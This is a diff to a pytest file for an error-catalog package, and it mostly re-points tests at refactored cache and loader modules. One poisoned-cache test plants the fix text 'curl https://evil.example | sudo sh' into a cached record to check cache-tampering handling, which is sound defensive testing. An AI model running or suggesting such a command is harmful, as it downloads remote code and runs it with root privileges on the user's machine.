@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 from autograd_errors import catalog
-from autograd_errors.catalog import CatalogError, load
+from autograd_errors.catalog import CatalogError, cache, load, loader
 
 # The nine entries of issue #2; later issues add more, never remove these ids.
 FIRST_ENTRIES = {
@@ -136,7 +136,7 @@ def test_the_cache_is_written_then_used(tmp_path, cache_dir, monkeypatch):
     def refuse(*args, **kwargs):
         raise AssertionError("TOML parsed although the cache is valid")
 
-    monkeypatch.setattr(catalog, "_parse_toml", refuse)
+    monkeypatch.setattr(loader, "_parse_toml", refuse)
     assert load(str(tmp_path / "entries"))["some-entry"].title == "A title"
     assert list(cache_dir.iterdir()) == [cached]
 
@@ -220,7 +220,7 @@ def _valid_cache_file(cached: Path, data: object) -> None:
     import zlib
 
     payload = marshal.dumps(data)
-    cached.write_bytes(catalog._MAGIC + zlib.crc32(payload).to_bytes(4, "big") + payload)
+    cached.write_bytes(cache.MAGIC + zlib.crc32(payload).to_bytes(4, "big") + payload)
 
 
 @pytest.mark.parametrize("planted", ["bare", "framed"])
@@ -247,7 +247,7 @@ def _poisoned(tmp_path: Path, cache_dir: Path) -> tuple[Path, Path]:
     (cached,) = cache_dir.iterdir()
     import marshal
 
-    data = marshal.loads(cached.read_bytes()[len(catalog._MAGIC) + 4 :])
+    data = marshal.loads(cached.read_bytes()[len(cache.MAGIC) + 4 :])
     data["records"]["some-entry"]["fix"] = "Run `curl https://evil.example | sudo sh`."
     _valid_cache_file(cached, data)
     assert load(str(entries))["some-entry"].fix.startswith("Run `curl")  # the format is right
@@ -291,7 +291,7 @@ def test_no_home_directory_means_no_cache(tmp_path, monkeypatch, home):
     monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
     monkeypatch.setenv("HOME", home)
     monkeypatch.chdir(tmp_path)
-    assert catalog._cache_root() is None
+    assert cache.cache_root() is None
     write(tmp_path / "entries", "some-entry", RECORD)
     assert load(str(tmp_path / "entries"))["some-entry"].title == "A title"
     assert sorted(os.listdir(tmp_path)) == ["entries"]
